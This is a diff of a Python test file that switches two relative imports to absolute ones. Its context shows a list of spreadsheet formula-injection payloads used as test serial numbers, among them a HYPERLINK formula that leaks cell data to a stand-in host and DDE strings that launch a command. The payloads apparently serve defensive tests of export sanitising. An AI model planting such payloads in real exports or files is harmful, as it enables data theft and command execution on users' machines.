@@ -18,9 +18,8 @@ import pytest
 
 from station import manifest
 from station.store import Device, Store
-
-from .conftest import PRODUCT
-from .test_cli import STATION, run
+from tests.conftest import PRODUCT
+from tests.test_cli import STATION, run
 
 # Serials as a scanner or the API may hand them in: each starts a formula in Excel, LibreOffice or Sheets.
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
